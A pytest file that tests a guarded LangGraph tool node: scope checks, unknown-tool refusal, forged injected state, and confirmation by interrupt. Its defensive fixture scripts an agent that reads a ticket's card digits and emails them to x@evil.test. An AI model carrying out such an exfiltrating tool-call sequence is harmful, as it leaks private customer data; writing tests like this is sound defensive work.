"""The guarded ToolNode in a real LangGraph agent loop (scripted model,
InMemorySaver), including confirmation by interrupt and resume."""

from __future__ import annotations

import asyncio
import contextlib
from typing import Annotated, Any

import pytest
from langchain_core.messages import HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import InjectedState, ToolNode, ToolRuntime
from langgraph.types import Command, Send

from aiinvariants import (
    InvariantViolation,
    PolicyError,
    Principal,
    ScopeDenied,
    ToolForbidden,
    acting_as,
)
from aiinvariants.audit import capture
from aiinvariants.integrations.langchain_tools import guard_tool
from aiinvariants.integrations.langgraph import (
    CONFIRMATION_KIND,
    GuardedToolNode,
    guard_tool_node,
)
from aiinvariants.taint import agent_run
from langgraph_support import (
    ALICE,
    BOB,
    AIMessage,
    Outbox,
    build_graph,
    call,
    guard,
    make_tools,
    turn,
)

HI = {"messages": [HumanMessage("help me")]}


def cfg(thread: str) -> dict[str, Any]:
    return {"configurable": {"thread_id": thread}}


def exfiltration_script() -> list[AIMessage]:
    return [
        turn(
            call("read_ticket", {"ticket_id": "7"}, "c1"),
            call("search_kb", {"query": "vpn"}, "c2"),
        ),
        turn(call("send_email", {"to": "x@evil.test", "body": "4242"}, "c3")),
        AIMessage("done"),
    ]


def test_parallel_calls_each_decided_and_run_as_the_user() -> None:
    outbox = Outbox()
    g = guard()
    node = guard_tool_node(g, make_tools(outbox))
    graph = build_graph(
        [
            turn(
                call("read_ticket", {"ticket_id": "1"}, "a"),
                call("search_kb", {"query": "x"}, "b"),
            ),
            AIMessage("ok"),
        ],
        node,
    )
    with capture() as events, acting_as(ALICE):
        out = graph.invoke(HI, cfg("p"))
    tools = [m for m in out["messages"] if isinstance(m, ToolMessage)]
    assert [m.content for m in tools] == ["ticket 1: customer card ends 4242", "kb: x"]
    allowed = {e.resource for e in events if e.reason == "tool_allowed"}
    assert allowed == {"tool.read_ticket", "tool.search_kb"}


def test_a_denied_call_stops_the_graph_with_its_code() -> None:
    g = guard()
    graph = build_graph(
        [turn(call("read_ticket", {"ticket_id": "1"}, "a")), AIMessage("ok")],
        guard_tool_node(g, make_tools(Outbox())),
    )
    with acting_as(BOB), pytest.raises(ScopeDenied) as info:
        graph.invoke(HI, cfg("d"))
    assert info.value.code == "scope_missing"


def test_denials_can_be_returned_to_the_model() -> None:
    g = guard()
    node = guard_tool_node(
        g, make_tools(Outbox()), handle_tool_errors=(InvariantViolation,)
    )
    graph = build_graph(
        [turn(call("read_ticket", {"ticket_id": "1"}, "a")), AIMessage("sorry")],
        node,
    )
    with acting_as(BOB):
        out = graph.invoke(HI, cfg("m"))
    (msg,) = [m for m in out["messages"] if isinstance(m, ToolMessage)]
    assert msg.status == "error"
    assert "scope_missing" in str(msg.content)
    assert out["messages"][-1].content == "sorry"


def test_an_invented_tool_name_is_refused_tool_unknown() -> None:
    g = guard()
    graph = build_graph(
        [turn(call("delete_all", {}, "z")), AIMessage("ok")],
        guard_tool_node(g, make_tools(Outbox())),
    )
    with capture() as events, acting_as(ALICE), pytest.raises(ToolForbidden) as info:
        graph.invoke(HI, cfg("u"))
    assert info.value.code == "tool_unknown"
    assert events[-1].reason == "tool_unknown"


def test_confirmation_by_interrupt_and_resume_true() -> None:
    outbox = Outbox()
    g = guard()
    graph = build_graph(
        exfiltration_script(),
        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
    )
    with capture() as events, acting_as(ALICE), agent_run():
        out = graph.invoke(HI, cfg("t"))
        (pending,) = out["__interrupt__"]
        assert outbox.sent == []
        assert pending.value == {
            "kind": CONFIRMATION_KIND,
            "tool": "send_email",
            "tool_call_id": "c3",
            "capabilities": ["sends_external"],
            "subject": "alice",
            "private_sources": ["tool.read_ticket"],
            "untrusted_sources": ["tool.search_kb"],
        }
        assert "4242" not in repr(pending.value)
        out = graph.invoke(Command(resume=True), cfg("t"))
    assert outbox.sent == [("x@evil.test", "4242")]
    assert out["messages"][-1].content == "done"
    assert any(e.reason == "tool_confirmed" for e in events)


@pytest.mark.parametrize("answer", [False, "yes", 1, {"approved": True}, "True"])
def test_only_an_explicit_true_approves(answer: object) -> None:
    outbox = Outbox()
    g = guard()
    graph = build_graph(
        exfiltration_script(),
        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
    )
    with acting_as(ALICE), agent_run():
        graph.invoke(HI, cfg("f"))
        with pytest.raises(ToolForbidden) as info:
            graph.invoke(Command(resume=answer), cfg("f"))
    assert info.value.code == "tainted_run_needs_confirmation"
    assert outbox.sent == []


def test_a_declined_call_stays_refused_when_resumed_in_a_clean_run() -> None:
    outbox = Outbox()
    g = guard()
    graph = build_graph(
        exfiltration_script(),
        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
    )
    with acting_as(ALICE):
        with agent_run():
            graph.invoke(HI, cfg("c"))
        with agent_run(), pytest.raises(ToolForbidden):
            graph.invoke(Command(resume=False), cfg("c"))
    assert outbox.sent == []


def test_without_interrupt_the_runs_callback_decides() -> None:
    outbox = Outbox()
    g = guard()
    graph = build_graph(exfiltration_script(), guard_tool_node(g, make_tools(outbox)))
    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
        graph.invoke(HI, cfg("n"))
    assert info.value.code == "tainted_run_needs_confirmation"
    assert outbox.sent == []


def test_async_graph_with_interrupt() -> None:
    outbox = Outbox()
    g = guard()
    graph = build_graph(
        exfiltration_script(),
        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
    )

    async def run() -> Any:
        async with acting_as(ALICE), agent_run():
            out = await graph.ainvoke(HI, cfg("a"))
            assert out["__interrupt__"]
            return await graph.ainvoke(Command(resume=True), cfg("a"))

    out = asyncio.run(run())
    assert out["messages"][-1].content == "done"
    assert outbox.sent == [("x@evil.test", "4242")]


def test_tool_calls_sent_with_send_pass_the_check() -> None:
    g = guard()
    node = guard_tool_node(g, make_tools(Outbox()))

    def fan_out(state: MessagesState) -> list[Send]:
        return [
            Send(
                "tools",
                {
                    "__type": "tool_call_with_context",
                    "tool_call": call("read_ticket", {"ticket_id": "9"}, "s1"),
                    "state": state,
                },
            )
        ]

    graph = StateGraph(MessagesState)
    graph.add_node("tools", node)
    graph.add_conditional_edges(START, fan_out, ["tools"])
    app = graph.compile()
    with acting_as(BOB), pytest.raises(ScopeDenied):
        app.invoke(HI)
    with acting_as(ALICE):
        out = app.invoke(HI)
    assert "ticket 9" in out["messages"][-1].content


def test_command_goto_send_from_a_node_passes_the_check() -> None:
    g = guard()
    node = guard_tool_node(g, make_tools(Outbox()))

    def router(state: MessagesState) -> Command[Any]:
        return Command(
            goto=Send(
                "tools",
                {
                    "__type": "tool_call_with_context",
                    "tool_call": call("read_ticket", {"ticket_id": "3"}, "r1"),
                    "state": state,
                },
            )
        )

    graph = StateGraph(MessagesState)
    graph.add_node("router", router)
    graph.add_node("tools", node)
    graph.add_edge(START, "router")
    app = graph.compile()
    with acting_as(BOB), pytest.raises(ScopeDenied):
        app.invoke(HI)


def test_injected_state_is_filled_by_langgraph_not_the_model() -> None:
    @tool
    def count_messages(
        note: str, state: Annotated[dict[str, Any], InjectedState]
    ) -> str:
        """Count the conversation's messages."""
        return f"{note}: {len(state['messages'])}"

    g = guard()
    tool_ = guard_tool(g, count_messages, data="public")
    forged = {"note": "n", "state": {"messages": list(range(99))}}
    graph = build_graph(
        [turn(call("count_messages", forged, "i")), AIMessage("ok")],
        guard_tool_node(g, [tool_]),
    )
    with acting_as(ALICE):
        out = graph.invoke(HI, cfg("i"))
    (msg,) = [m for m in out["messages"] if isinstance(m, ToolMessage)]
    assert msg.content == "n: 2"
    assert "state" not in tool_.tool_call_schema.model_json_schema()["properties"]


def test_principal_from_graph_config() -> None:
    g = guard()
    node = guard_tool_node(g, make_tools(Outbox()), principal_from_config=True)
    graph = build_graph(
        [turn(call("read_ticket", {"ticket_id": "5"}, "p")), AIMessage("ok")], node
    )
    config = {"configurable": {"thread_id": "pc", "principal": ALICE}}
    out = graph.invoke(HI, config)
    assert "ticket 5" in out["messages"][-2].content


@pytest.mark.parametrize("ambient", [BOB, None], ids=["bob", "none"])
def test_a_config_principal_without_the_option_is_refused(
    ambient: Principal | None,
) -> None:
    g = guard()
    graph = build_graph(
        [turn(call("read_ticket", {"ticket_id": "5"}, "p")), AIMessage("ok")],
        guard_tool_node(g, make_tools(Outbox())),
    )
    config = {"configurable": {"thread_id": "po", "principal": ALICE}}
    with contextlib.ExitStack() as stack:
        if ambient is not None:
            stack.enter_context(acting_as(ambient))
        with pytest.raises(PolicyError, match="principal_from_config"):
            graph.invoke(HI, config)


def test_construction_refusals() -> None:
    g = guard()

    @tool
    def undeclared(x: str) -> str:
        """Not in the policy."""
        return x

    with pytest.raises(PolicyError, match="not declared"):
        guard_tool_node(g, [undeclared])
    with pytest.raises(PolicyError, match="confirm"):
        GuardedToolNode(make_tools(Outbox()), guard=g, confirm="ask")  # type: ignore[arg-type]
    node = guard_tool_node(g, ToolNode(make_tools(Outbox())))
    assert set(node.tools_by_name) == {"search_kb", "read_ticket", "send_email"}


@pytest.mark.parametrize("answer", [True, False])
def test_a_graph_resumed_by_another_node_and_run_keeps_the_taint(
    answer: bool,
) -> None:
    # Another worker: a new GuardedToolNode and a new agent_run, the same
    # checkpointer. The run's taint comes back from the checkpointed
    # messages, so the pending confirmation is still asked and answered.
    outbox = Outbox()
    g = guard()
    first = build_graph(
        exfiltration_script(),
        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
    )
    with acting_as(ALICE), agent_run():
        assert first.invoke(HI, cfg("w"))["__interrupt__"]
    second = build_graph(
        [AIMessage("done")],
        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
        checkpointer=first.checkpointer,
    )
    with acting_as(ALICE), agent_run() as run:
        if answer:
            out = second.invoke(Command(resume=True), cfg("w"))
            assert out["messages"][-1].content == "done"
        else:
            with pytest.raises(ToolForbidden):
                second.invoke(Command(resume=False), cfg("w"))
        assert run.tainted
    assert outbox.sent == ([("x@evil.test", "4242")] if answer else [])


def test_guarded_tools_in_langchains_create_agent() -> None:
    agents = pytest.importorskip("langchain.agents")
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel

    class Scripted(GenericFakeChatModel):
        def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
            return self

    g = guard()
    tools = [guard_tool(g, t) for t in make_tools(Outbox())]

    def agent() -> Any:
        script = [turn(call("read_ticket", {"ticket_id": "1"}, "a")), AIMessage("ok")]
        return agents.create_agent(Scripted(messages=iter(script)), tools=tools)

    with acting_as(ALICE):
        out = agent().invoke(HI)
    assert "ticket 1" in out["messages"][-2].content
    with acting_as(BOB), pytest.raises(ScopeDenied):
        agent().invoke(HI)


def test_tool_runtime_is_injected_and_not_part_of_the_decisions_arguments() -> None:
    @tool
    def where(note: str, runtime: ToolRuntime) -> str:
        """Report the call id and the conversation length."""
        return f"{note} {runtime.tool_call_id} {len(runtime.state['messages'])}"

    g = guard()
    guarded = guard_tool(g, where, data="public")
    assert set(guarded.args) == {"note"}
    # What the decision sees: the model-visible arguments only.
    assert guarded._arguments((), {"note": "n", "runtime": object()}) == {"note": "n"}
    graph = build_graph(
        [turn(call("where", {"note": "n"}, "rt1")), AIMessage("ok")],
        guard_tool_node(g, [guarded]),
    )
    with acting_as(ALICE):
        out = graph.invoke(HI, cfg("rt"))
    assert out["messages"][-2].content == "n rt1 2"
